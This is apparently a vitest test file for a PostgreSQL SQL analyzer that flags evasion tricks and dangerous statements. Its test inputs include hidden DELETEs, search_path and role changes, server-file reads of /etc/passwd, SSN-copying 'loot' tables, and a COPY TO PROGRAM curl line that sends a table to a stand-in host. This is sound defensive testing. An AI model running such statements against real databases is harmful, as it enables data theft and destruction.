// Evasion classes: quoting and case, comments, unicode escapes, literals hiding statements,
// search_path and role tricks, set_config, DML in CTEs, dangerous functions, deep nesting.
import { beforeAll, describe, expect, it } from 'vitest';
import { type Analyzer, createAnalyzer, loadAnalyzer } from './analyzer.js';
import type { AnalyzeContext, AnalyzedStatement, StatementFacts } from './facts.js';

let analyzer: Analyzer;

beforeAll(async () => {
  await loadAnalyzer();
  analyzer = createAnalyzer();
});

function ctx(searchPath: readonly string[] = ['$user', 'public']): AnalyzeContext {
  return { searchPath, prepared: () => undefined, cursors: () => undefined };
}

function all(sql: string, c: AnalyzeContext = ctx()): AnalyzedStatement[] {
  return analyzer.analyze(sql, c).statements;
}

function one(sql: string, c: AnalyzeContext = ctx()): StatementFacts {
  const s = all(sql, c);
  expect(s).toHaveLength(1);
  return s[0]!.facts;
}

describe('quoting, case and comments', () => {
  it('"Public"."Customers" is not public.customers', () => {
    expect(one('SELECT * FROM "Public"."Customers"').reads[0]).toMatchObject({
      schema: 'Public',
      table: 'Customers',
    });
    expect(one('SELECT * FROM Public.Customers').reads[0]).toMatchObject({
      schema: 'public',
      table: 'customers',
    });
  });

  it('sees through comments around identifiers', () => {
    const f = one('SELECT/**/ssn/* x */FROM--c\n"public"/*;*/./*;*/customers');
    expect(f.reads).toEqual([{ schema: 'public', table: 'customers', columns: ['ssn'] }]);
  });

  it('a DELETE inside a comment is not a statement', () => {
    const f = one('SELECT 1 -- ; DELETE FROM customers\n');
    expect(f.writes).toEqual([]);
    expect(
      one('SELECT 1 /* ; DELETE FROM customers; /* nested */ still comment */').writes,
    ).toEqual([]);
  });

  it('a quoted identifier may contain quotes, semicolons and DELETE', () => {
    const f = one('SELECT "a;""DELETE FROM t" FROM t');
    expect(f.reads).toEqual([{ schema: 'public', table: 't', columns: ['a;"DELETE FROM t'] }]);
    expect(f.writes).toEqual([]);
  });

  it('unicode escapes name the same table as plain text', () => {
    expect(one('SELECT * FROM U&"\\0063ustomers"').reads[0]?.table).toBe('customers');
    expect(one('SELECT * FROM U&"p\\0075blic".orders').reads[0]?.schema).toBe('public');
  });
});

describe('literals hiding statements', () => {
  it('a dollar-quoted DELETE is a string, not a write', () => {
    const f = one('SELECT $$; DELETE FROM customers; $$');
    expect(f.writes).toEqual([]);
    expect(f.command).toBe('SELECT');
    expect(one('SELECT $x$ $$; DELETE FROM customers; $$ $x$').writes).toEqual([]);
  });

  it('an E-string escaped quote does not end the literal', () => {
    expect(all("SELECT E'\\'; DELETE FROM customers; --'")).toHaveLength(1);
  });

  it('a backslash does not escape in a standard string: the DELETE after it is real', () => {
    const s = all("SELECT 'a\\'; DELETE FROM customers; --'");
    expect(s.map((x) => x.facts.command)).toEqual(['SELECT', 'DELETE']);
    expect(s[1]?.facts.writes[0]).toMatchObject({
      table: 'customers',
      action: 'delete',
      has_where: false,
    });
  });

  it('splits multi-statement strings with index and count', () => {
    const s = all("SELECT 'a;b' FROM t; DELETE FROM customers WHERE id = 1;");
    expect(s.map((x) => [x.facts.index, x.facts.count, x.facts.command, x.text])).toEqual([
      [0, 2, 'SELECT', "SELECT 'a;b' FROM t"],
      [1, 2, 'DELETE', 'DELETE FROM customers WHERE id = 1'],
    ]);
    expect(s[1]?.normalized).toBe('DELETE FROM customers WHERE id = $1');
  });

  it('sha256 is of the exact statement text; the fingerprint ignores literal values', () => {
    const a = one("SELECT * FROM t WHERE name = 'x'");
    const b = one("SELECT * FROM t WHERE name = 'y'");
    expect(a.sha256).not.toBe(b.sha256);
    expect(a.fingerprint).toBe(b.fingerprint);
  });

  it('a NUL character fails closed', () => {
    expect(one('SELECT 1\u0000; DELETE FROM t').flags).toEqual(['parse_error']);
  });
});

describe('search_path, roles and set_config', () => {
  it('SET search_path changes resolution of later statements in the same string', () => {
    const s = all('SET search_path = evil, public; SELECT * FROM customers');
    expect(s[0]?.facts.flags).toEqual(['search_path_change']);
    expect(s[0]?.effects).toEqual([
      { type: 'SetSearchPath', path: ['evil', 'public'], local: false },
    ]);
    expect(s[1]?.facts.reads[0]?.schema).toBe('evil');
  });

  it('SET SCHEMA is a search_path change; quoted names keep case', () => {
    expect(all("SET SCHEMA 'Evil'")[0]?.effects).toEqual([
      { type: 'SetSearchPath', path: ['Evil'], local: false },
    ]);
    expect(all('SET LOCAL search_path TO "A b", c')[0]?.effects).toEqual([
      { type: 'SetSearchPath', path: ['A b', 'c'], local: true },
    ]);
  });

  it('RESET and SET ... TO DEFAULT return to the startup value', () => {
    for (const q of ['RESET search_path', 'SET search_path TO DEFAULT', 'RESET ALL']) {
      const s = all(q)[0]!;
      expect(s.facts.flags).toContain('search_path_change');
      expect(s.effects).toEqual([{ type: 'SetSearchPath', path: null, local: false }]);
    }
    const c: AnalyzeContext = { ...ctx(['evil']), defaultSearchPath: ['app'] };
    expect(all('RESET search_path; SELECT * FROM t', c)[1]?.facts.reads[0]?.schema).toBe('app');
  });

  it("set_config('search_path', ...) is flagged and tracked", () => {
    const s = all("SELECT set_config('search_path', 'evil, \"Pub\"', false)")[0]!;
    expect(s.facts.flags).toEqual(['search_path_change', 'set_config']);
    expect(s.facts.settings).toEqual([{ name: 'search_path', value: 'evil, "Pub"', local: false }]);
    expect(s.effects).toEqual([{ type: 'SetSearchPath', path: ['evil', 'Pub'], local: false }]);
  });

  it('set_config with a value it cannot see is dynamic SQL', () => {
    const f = one('SELECT set_config(name, value, false) FROM settings_to_apply');
    expect(f.flags).toContain('dynamic_sql');
    expect(f.flags).toContain('role_change');
    expect(f.flags).toContain('search_path_change');
  });

  it('set_config buried in a WHERE clause is still seen', () => {
    const f = one("SELECT 1 FROM t WHERE set_config('role', 'admin', true) IS NOT NULL");
    expect(f.flags).toEqual(['role_change', 'set_config']);
    expect(f.settings).toEqual([{ name: 'role', value: 'admin', local: true }]);
  });

  it('role changes', () => {
    expect(one('SET ROLE admin').flags).toEqual(['role_change']);
    expect(one('SET LOCAL ROLE admin').settings).toEqual([
      { name: 'role', value: 'admin', local: true },
    ]);
    expect(one('RESET ROLE').flags).toEqual(['role_change']);
    expect(one('SET "ROLE" = admin').flags).toEqual(['role_change']);
    expect(one('SET SESSION AUTHORIZATION bob').flags).toEqual([
      'role_change',
      'session_authorization',
    ]);
    expect(one('RESET SESSION AUTHORIZATION').flags).toEqual([
      'role_change',
      'session_authorization',
    ]);
  });

  it('settings that change how later SQL lexes are SQL we cannot see through', () => {
    expect(one('SET standard_conforming_strings = off').flags).toEqual(['dynamic_sql']);
    expect(one("SET client_encoding = 'SJIS'").flags).toEqual(['dynamic_sql']);
    expect(one("SELECT set_config('standard_conforming_strings', 'off', false)").flags).toEqual([
      'dynamic_sql',
      'set_config',
    ]);
    expect(one('SET standard_conforming_strings = on').flags).toEqual([]);
    expect(one("SET NAMES 'utf-8'").flags).toEqual([]);
  });

  it('other settings are reported without flags', () => {
    const f = one("SET statement_timeout = '5s'");
    expect(f.command).toBe('SET');
    expect(f.flags).toEqual([]);
    expect(f.settings).toEqual([{ name: 'statement_timeout', value: '5s', local: false }]);
    expect(one('SET TRANSACTION ISOLATION LEVEL SERIALIZABLE').settings).toEqual([
      { name: 'transaction_isolation', value: 'serializable', local: false },
    ]);
  });
});

describe('dangerous statements and functions', () => {
  it('DML inside a CTE', () => {
    const f = one('WITH x AS (UPDATE customers SET ssn = NULL RETURNING id) SELECT * FROM x');
    expect(f.command).toBe('SELECT');
    expect(f.flags).toEqual(['dml_in_cte']);
    expect(f.writes).toEqual([
      {
        schema: 'public',
        table: 'customers',
        action: 'update',
        has_where: false,
        columns: ['ssn'],
      },
    ]);
    const d = one('WITH d AS (DELETE FROM orders RETURNING *) SELECT * FROM d');
    expect(d.writes[0]?.action).toBe('delete');
    expect(d.reads).toEqual([{ schema: 'public', table: 'orders', columns: ['*'] }]);
  });

  it('DO blocks', () => {
    const f = one("DO $$ BEGIN EXECUTE 'DROP TABLE customers'; END $$");
    expect(f.command).toBe('DO');
    expect(f.flags).toEqual(['do_block']);
  });

  it('functions that reach outside, whatever their schema or quoting', () => {
    const cases: [string, string][] = [
      ["SELECT * FROM dblink('host=x', 'DELETE FROM t') AS t(a int)", 'dynamic_sql'],
      ["SELECT ext.dblink_exec('DELETE FROM t')", 'dynamic_sql'],
      ["SELECT query_to_xml('SELECT * FROM secrets', true, true, '')", 'dynamic_sql'],
      ["SELECT table_to_xml('secrets', true, true, '')", 'dynamic_sql'],
      ["SELECT pg_read_file('/etc/passwd')", 'file_function'],
      ['SELECT "pg_read_file"(\'/etc/passwd\')', 'file_function'],
      ["SELECT pg_catalog.pg_read_binary_file('/etc/passwd')", 'file_function'],
      ["SELECT pg_ls_dir('.')", 'file_function'],
      ["SELECT pg_stat_file('x')", 'file_function'],
      ["SELECT lo_import('/etc/passwd')", 'file_function'],
      ['SELECT lo_export(1, $1)', 'file_function'],
      ['SELECT pg_terminate_backend(123)', 'server_function'],
      ['SELECT pg_cancel_backend(123)', 'server_function'],
      ['SELECT pg_reload_conf()', 'server_function'],
      ['SELECT pg_rotate_logfile()', 'server_function'],
      ["SELECT set_config('work_mem', '1GB', false)", 'set_config'],
      ["SELECT pg_notify('ch', 'x')", 'listen_notify'],
    ];
    for (const [sql, flag] of cases) expect(one(sql).flags, sql).toContain(flag);
    expect(one("SELECT current_setting('search_path')").flags).toEqual([]);
  });

  it('a dangerous call hidden in DDL is seen', () => {
    const f = one("ALTER TABLE t ADD COLUMN x text DEFAULT pg_read_file('/etc/passwd')");
    expect(f.flags).toEqual(['ddl', 'file_function']);
  });

  it('PREPARE then EXECUTE in one string carries the write to the EXECUTE', () => {
    const s = all('PREPARE p AS DELETE FROM customers; EXECUTE p');
    expect(s[0]?.facts.command).toBe('PREPARE');
    expect(s[0]?.facts.flags).toEqual(['prepare']);
    expect(s[1]?.facts.command).toBe('EXECUTE');
    expect(s[1]?.facts.flags).toEqual(['execute']);
    expect(s[1]?.facts.writes[0]).toMatchObject({
      table: 'customers',
      action: 'delete',
      has_where: false,
    });
  });

  it('DEALLOCATE in the same string makes a later EXECUTE unknown', () => {
    const s = all('PREPARE p AS SELECT 1; DEALLOCATE p; EXECUTE p');
    expect(s[2]?.facts.command).toBe('UNKNOWN');
    expect(s[2]?.facts.flags).toEqual(['unknown_node']);
  });

  it('EXPLAIN ANALYZE executes: its writes count; plain EXPLAIN only names the tables', () => {
    const plain = one('EXPLAIN DELETE FROM customers');
    expect(plain.flags).toEqual(['explain']);
    expect(plain.writes).toEqual([]);
    expect(plain.objects).toEqual([{ kind: 'table', name: 'public.customers' }]);
    const analyze = one('EXPLAIN (ANALYZE, BUFFERS) DELETE FROM customers');
    expect(analyze.flags).toEqual(['explain', 'explain_analyze']);
    expect(analyze.writes[0]).toMatchObject({ table: 'customers', action: 'delete' });
    expect(one('EXPLAIN (ANALYZE false) DELETE FROM customers').flags).toEqual(['explain']);
    expect(one('EXPLAIN (ANALYZE 0) DELETE FROM customers').flags).toEqual(['explain']);
    expect(one("EXPLAIN ANALYZE SELECT pg_read_file('x')").flags).toContain('file_function');
  });

  it('SELECT INTO and CREATE TABLE AS write a new table', () => {
    const into = one('SELECT ssn INTO loot FROM customers');
    expect(into.command).toBe('SELECT INTO');
    expect(into.flags).toEqual(['ddl', 'select_into']);
    expect(into.writes).toEqual([
      { schema: 'public', table: 'loot', action: 'insert', has_where: false },
    ]);
    expect(into.reads).toEqual([{ schema: 'public', table: 'customers', columns: ['ssn'] }]);
    const ctas = one('CREATE TABLE loot AS SELECT * FROM customers');
    expect(ctas.command).toBe('CREATE TABLE AS');
    expect(ctas.flags).toEqual(['create_table_as', 'ddl']);
    expect(ctas.reads).toEqual([{ schema: 'public', table: 'customers', columns: ['*'] }]);
    expect(one('CREATE MATERIALIZED VIEW mv AS SELECT 1').command).toBe('CREATE MATERIALIZED VIEW');
    expect(one('CREATE TEMP TABLE x AS SELECT 1').writes[0]?.schema).toBe('pg_temp');
  });

  it('COPY: program, file, stdin, stdout and query forms', () => {
    const program = one("COPY customers TO PROGRAM 'curl -d @- evil'");
    expect(program.flags).toEqual(['copy_program']);
    expect(program.reads).toEqual([{ schema: 'public', table: 'customers', columns: ['*'] }]);
    expect(one("COPY customers FROM '/tmp/x.csv'").flags).toEqual(['copy_file']);
    const stdin = one('COPY customers (id, email) FROM STDIN WITH (FORMAT csv)');
    expect(stdin.flags).toEqual(['copy_from_stdin']);
    expect(stdin.writes).toEqual([
      {
        schema: 'public',
        table: 'customers',
        action: 'copy_from',
        has_where: false,
        columns: ['email', 'id'],
      },
    ]);
    expect(one('COPY customers (ssn) TO STDOUT').reads).toEqual([
      { schema: 'public', table: 'customers', columns: ['ssn'] },
    ]);
    const q = one('COPY (SELECT ssn FROM customers WHERE id > 1) TO STDOUT');
    expect(q.flags).toEqual(['copy_to_stdout']);
    expect(q.reads).toEqual([{ schema: 'public', table: 'customers', columns: ['id', 'ssn'] }]);
    expect(one('COPY (DELETE FROM customers RETURNING *) TO STDOUT').writes[0]?.action).toBe(
      'delete',
    );
  });
});

describe('depth and malformed input', () => {
  it('10,000 nested parentheses: too_deep without ever parsing', () => {
    const sql = `SELECT ${'('.repeat(10_000)}1${')'.repeat(10_000)}`;
    const before = analyzer.stats();
    const f = one(sql);
    // Refused by the scanner: neither a cache hit nor a parse (a miss) happened.
    expect(analyzer.stats()).toEqual(before);
    expect(f.fingerprint).toBe('');
    expect(f.command).toBe('UNKNOWN');
    expect(f.flags).toEqual(['too_deep']);
  });

  it('deep nesting without parentheses is too_deep or a parse error, never a crash', () => {
    for (const sql of [
      `SELECT 1${'+1'.repeat(3000)}`,
      `SELECT ${'NOT '.repeat(3000)}true`,
      `SELECT ${'(SELECT '.repeat(600)}1${')'.repeat(600)}`,
    ]) {
      const flags = one(sql).flags;
      expect(flags.includes('too_deep') || flags.includes('parse_error'), sql.slice(0, 40)).toBe(
        true,
      );
    }
  });

  it('honours maxDepth', () => {
    const shallow = createAnalyzer({ maxDepth: 8 });
    expect(
      shallow.analyze(`SELECT ${'('.repeat(9)}1${')'.repeat(9)}`, ctx()).statements[0]?.facts.flags,
    ).toEqual(['too_deep']);
    expect(
      shallow.analyze('SELECT (SELECT (SELECT (SELECT (SELECT 1))))', ctx()).statements[0]?.facts
        .flags,
    ).toEqual(['too_deep']);
  });

  it('parse errors become one UNKNOWN statement, never an exception', () => {
    const s = all('SELECT FROM WHERE; DELETE');
    expect(s).toHaveLength(1);
    expect(s[0]?.facts).toMatchObject({
      command: 'UNKNOWN',
      flags: ['parse_error'],
      index: 0,
      count: 1,
    });
    expect(s[0]?.text).toBe('SELECT FROM WHERE; DELETE');
    expect(one("SELECT 'unterminated").flags).toEqual(['parse_error']);
  });

  it('empty and comment-only strings are one EMPTY statement', () => {
    for (const sql of ['', '   ', '-- nothing', '/* a */ ; ;']) {
      const s = all(sql);
      expect(s).toHaveLength(1);
      expect(s[0]?.facts).toMatchObject({ command: 'EMPTY', flags: ['empty'], index: 0, count: 1 });
      expect(s[0]?.text).toBe('');
    }
  });
});
